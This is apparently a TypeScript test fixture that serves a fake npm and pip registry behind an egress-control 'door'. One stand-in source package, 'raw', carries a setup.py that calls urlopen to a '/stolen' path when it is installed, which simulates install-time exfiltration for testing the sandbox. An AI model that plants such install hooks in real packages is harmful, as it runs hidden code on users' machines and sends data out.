import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { crc32, gzipSync } from 'node:zlib';
import { readConfig, toolEnvironment } from '../../src/config.ts';
import { type EgressDoor, egressDoor } from '../../src/egress/egress.ts';
import { tar } from '../images/stand-ins/tar.ts';

/** A name that only the door to this registry resolves. */
export const registryHost = 'packages.example.org';
const address = `http://${registryHost}`;

/** Variables that lead npm and pip to the registry. */
export const registryVariables = {
  npm_config_registry: `${address}/npm/`,
  npm_config_audit: 'false',
  npm_config_fetch_retries: '0',
  PIP_INDEX_URL: `${address}/simple`,
  PIP_EXTRA_INDEX_URL: '',
  PIP_TRUSTED_HOST: registryHost,
};

const leaf = gzipSync(
  tar([
    { name: 'package/package.json', content: JSON.stringify({ name: 'leaf', version: '1.0.0' }) },
    { name: 'package/index.js', content: "module.exports = 'from leaf';\n" },
  ]),
);
const leafAddress = `${address}/npm/leaf/-/leaf-1.0.0.tgz`;

/** The files of a project of npm, with the package `leaf` or with another one that its lock file names. */
export function npmProject(more: object, locked?: object): Record<string, string> {
  const own = { name: 'own', version: '1.0.0', private: true, ...more };
  const integrity = `sha512-${createHash('sha512').update(leaf).digest('base64')}`;
  const entry = locked ?? { version: '1.0.0', resolved: leafAddress, integrity };
  const packages = { '': own, ...('dependencies' in more ? { 'node_modules/leaf': entry } : {}) };
  const lock = { name: 'own', version: '1.0.0', lockfileVersion: 3, requires: true, packages };
  return { 'package.json': JSON.stringify(own), 'package-lock.json': JSON.stringify(lock) };
}

const metadata = 'Metadata-Version: 2.1\nName: gizmo\nVersion: 1.0\n';
const gizmo = zip({
  'gizmo.py': "SAYS = 'from gizmo'\n",
  'gizmo-1.0.dist-info/METADATA': metadata,
  'gizmo-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  'gizmo-1.0.dist-info/RECORD': 'gizmo.py,,\n',
});
/** A wheel that needs a package by the address of its source. */
const wrapper = zip({
  'wrapper-1.0.dist-info/METADATA': `${metadata.replace('gizmo', 'wrapper')}Requires-Dist: raw @ ${address}/files/raw-1.0.tar.gz\n`,
  'wrapper-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  'wrapper-1.0.dist-info/RECORD': 'wrapper-1.0.dist-info/METADATA,,\n',
});
const stealing = `import urllib.request\nurllib.request.urlopen('${address}/stolen')\n`;
const raw = gzipSync(
  tar([
    { name: 'raw-1.0/PKG-INFO', content: metadata.replace('gizmo', 'raw') },
    {
      name: 'raw-1.0/setup.py',
      content: `${stealing}from setuptools import setup\nsetup(name='raw', version='1.0')\n`,
    },
  ]),
);

const replies: Record<string, string | Buffer> = {
  '/npm/leaf/-/leaf-1.0.0.tgz': leaf,
  '/simple/gizmo/': '<a href="/files/gizmo-1.0-py3-none-any.whl">gizmo-1.0-py3-none-any.whl</a>',
  '/files/gizmo-1.0-py3-none-any.whl': gizmo,
  '/simple/wrapper/': '<a href="/files/wrapper-1.0-py3-none-any.whl">wrapper-1.0-py3-none-any.whl</a>',
  '/files/wrapper-1.0-py3-none-any.whl': wrapper,
  '/simple/raw/': '<a href="/files/raw-1.0.tar.gz">raw-1.0.tar.gz</a>',
  '/files/raw-1.0.tar.gz': raw,
};

export type Registry = Awaited<ReturnType<typeof openRegistry>>;

/** Starts a registry, and a door through which the runs of a service reach nothing else. */
export async function openRegistry() {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(req.url ?? '');
    const reply = replies[req.url ?? ''];
    if (reply === undefined) res.writeHead(404).end();
    else res.writeHead(200, typeof reply === 'string' ? { 'content-type': 'text/html' } : {}).end(reply);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const door: EgressDoor = egressDoor(readConfig({ EGRESS_OPEN_ADDRESSES: '127.0.0.0/8' }), toolEnvironment({}), {
    lookUp: async () => [{ address: '127.0.0.1', family: 4 }],
    connect: (options) => connect({ ...options, port }),
  });
  return { door, requests, close: () => server.close() };
}

/** Packs files into a zip archive without compression. */
function zip(files: Record<string, string>): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const content = Buffer.from(text);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt32LE(crc32(content), 10);
    fields.writeUInt32LE(content.length, 14);
    fields.writeUInt32LE(content.length, 18);
    fields.writeUInt16LE(name.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04'), fields, Buffer.from(name), content]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), fields, tail, Buffer.from(name)]));
    parts.push(local);
    offset += local.length;
  }
  const end = Buffer.alloc(18);
  end.writeUInt16LE(directory.length, 4);
  end.writeUInt16LE(directory.length, 6);
  end.writeUInt32LE(Buffer.concat(directory).length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...parts, ...directory, Buffer.from('PK\x05\x06'), end]);
}
